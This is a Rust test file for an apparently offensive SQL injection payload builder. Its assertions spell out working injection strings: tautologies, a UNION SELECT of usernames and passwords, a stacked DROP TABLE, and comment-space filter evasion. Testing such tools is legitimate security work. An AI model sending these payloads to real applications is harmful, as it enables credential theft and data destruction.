//! Injection payload rendering across escape contexts.

mod common;
use common::*;

use oxide_sqli_core::{
    col, Clauses, Config, EscapeContext, Expr, Injection, InjectionOptions, QuoteStyle,
    Statement, Statements,
};

// ===================================================================
// Integer and decimal contexts
// ===================================================================

#[test]
fn integer_and_tautology() {
    let payload = Injection::new(EscapeContext::Integer).and(tautology());
    assert_eq!(sqli(&payload), "1 AND 1=1");
}

#[test]
fn integer_or_terminated() {
    let payload = Injection::new(EscapeContext::Integer).or(tautology());
    assert_eq!(sqli_terminated(&payload), "1 OR 1=1;--");
}

#[test]
fn integer_terminate_flag_on_injection() {
    let payload = Injection::new(EscapeContext::Integer)
        .or(tautology())
        .terminate(true);
    assert_eq!(sqli(&payload), "1 OR 1=1;--");
}

#[test]
fn decimal_place_holder() {
    let payload = Injection::new(EscapeContext::Decimal).and(tautology());
    assert_eq!(sqli(&payload), "1.0 AND 1=1");
}

#[test]
fn custom_place_holder() {
    let payload = Injection::with_place_holder(EscapeContext::Integer, 42).or(tautology());
    assert_eq!(sqli(&payload), "42 OR 1=1");
}

#[test]
fn chain_renders_in_append_order() {
    let payload = Injection::new(EscapeContext::Integer)
        .and(col("id").gt(0))
        .or(tautology());
    assert_eq!(sqli(&payload), "1 AND id>0 OR 1=1");
}

#[test]
fn nested_or_inside_and_is_parenthesized() {
    let payload = Injection::new(EscapeContext::Integer).and(col("a").eq(1).or(col("b").eq(2)));
    assert_eq!(sqli(&payload), "1 AND (a=1 OR b=2)");
}

#[test]
fn negative_operand_does_not_comment_out_payload() {
    let payload = Injection::new(EscapeContext::Integer).and(col("id").sub(-1).gt(0));
    let sql = sqli(&payload);
    assert_eq!(sql, "1 AND id-(-1)>0");
    assert!(!sql.contains("--"));
}

// ===================================================================
// Quoted contexts
// ===================================================================

#[test]
fn string_balanced() {
    let payload = Injection::new(EscapeContext::String).or(Expr::string(1).eq(Expr::string(1)));
    assert_eq!(sqli(&payload), "1' OR '1'='1");
}

#[test]
fn string_balanced_but_terminated() {
    let payload = Injection::new(EscapeContext::String).or(Expr::string(1).eq(Expr::string(1)));
    assert_eq!(sqli_terminated(&payload), "1' OR '1'='1';--");
}

#[test]
fn string_unbalanced_is_terminated() {
    let payload = Injection::new(EscapeContext::String).or(tautology());
    assert_eq!(sqli(&payload), "1' OR 1=1;--");
}

#[test]
fn string_with_double_quotes() {
    let config = Config::default().with_quote(QuoteStyle::Double);
    let payload = Injection::new(EscapeContext::String).or(Expr::string(1).eq(Expr::string(1)));
    assert_eq!(
        payload.to_sql(&config, InjectionOptions::default()),
        "1\" OR \"1\"=\"1"
    );
}

#[test]
fn string_with_backticks() {
    let config = Config::default().with_quote(QuoteStyle::Backtick);
    let payload = Injection::new(EscapeContext::String).or(Expr::string("a").eq(Expr::string("a")));
    assert_eq!(
        payload.to_sql(&config, InjectionOptions::default()),
        "1` OR `a`=`a"
    );
}

#[test]
fn list_unbalanced_is_terminated() {
    let payload = Injection::new(EscapeContext::List).or(tautology());
    assert_eq!(sqli(&payload), "null) OR 1=1;--");
}

#[test]
fn list_closing_parenthesis_still_terminates() {
    let payload = Injection::new(EscapeContext::List).and(col("id").in_list([1]));
    assert_eq!(sqli(&payload), "null) AND id IN (1);--");
}

#[test]
fn list_with_string_place_holder_is_balanced() {
    let payload = Injection::with_place_holder(EscapeContext::List, "1")
        .or(Expr::string(1).eq(Expr::string(1)));
    assert_eq!(sqli(&payload), "1' OR '1'='1");
}

#[test]
fn column_place_holder() {
    let payload = Injection::new(EscapeContext::Column).or(tautology());
    assert_eq!(sqli(&payload), "id OR 1=1");
}

// ===================================================================
// Clauses and statements
// ===================================================================

#[test]
fn clauses_after_place_holder() {
    let payload = Injection::new(EscapeContext::Integer).limit(100).offset(10);
    assert_eq!(sqli(&payload), "1 LIMIT 100 OFFSET 10");
}

#[test]
fn clauses_after_condition() {
    let payload = Injection::new(EscapeContext::Integer)
        .or(tautology())
        .limit(100)
        .offset(10);
    assert_eq!(sqli(&payload), "1 OR 1=1 LIMIT 100 OFFSET 10");
}

#[test]
fn trailing_statement() {
    let payload = Injection::new(EscapeContext::Integer)
        .or(tautology())
        .select([1, 2, 3]);
    assert_eq!(sqli(&payload), "1 OR 1=1; SELECT 1,2,3");
}

#[test]
fn union_select() {
    let payload = Injection::new(EscapeContext::Integer).union(
        Statement::select([col("username"), col("password")]).from_table("users"),
    );
    assert_eq!(
        sqli_terminated(&payload),
        "1 UNION SELECT username,password FROM users;--"
    );
}

#[test]
fn stacked_drop_table_in_string_context() {
    let payload = Injection::new(EscapeContext::String).drop_table("users");
    assert_eq!(sqli(&payload), "1'; DROP TABLE users;--");
}

#[test]
fn existing_comment_is_not_terminated_twice() {
    let payload = Injection::new(EscapeContext::Integer)
        .or(tautology())
        .clause(oxide_sqli_core::Clause::bare("--"));
    assert_eq!(sqli_terminated(&payload), "1 OR 1=1 --");
}

// ===================================================================
// Rendering properties
// ===================================================================

#[test]
fn rendering_is_idempotent() {
    let payload = Injection::new(EscapeContext::String)
        .or(tautology())
        .limit(1);
    let config = config();
    let first = payload.to_sql(&config, InjectionOptions::default());
    let second = payload.to_sql(&config, InjectionOptions::default());
    assert_eq!(first, second);
}

#[test]
fn comment_spaces() {
    let config = Config::default().with_comment_spaces();
    let payload = Injection::new(EscapeContext::Integer).or(tautology());
    assert_eq!(
        payload.to_sql(&config, InjectionOptions::terminated()),
        "1/**/OR/**/1=1;--"
    );
}

#[test]
fn lower_case_config_applies_to_payload() {
    let config = Config::default().with_case(oxide_sqli_core::KeywordCase::Lower);
    let payload = Injection::new(EscapeContext::Integer)
        .or(tautology())
        .order_by([col("id")]);
    assert_eq!(
        payload.to_sql(&config, InjectionOptions::default()),
        "1 or 1=1 order by id"
    );
}
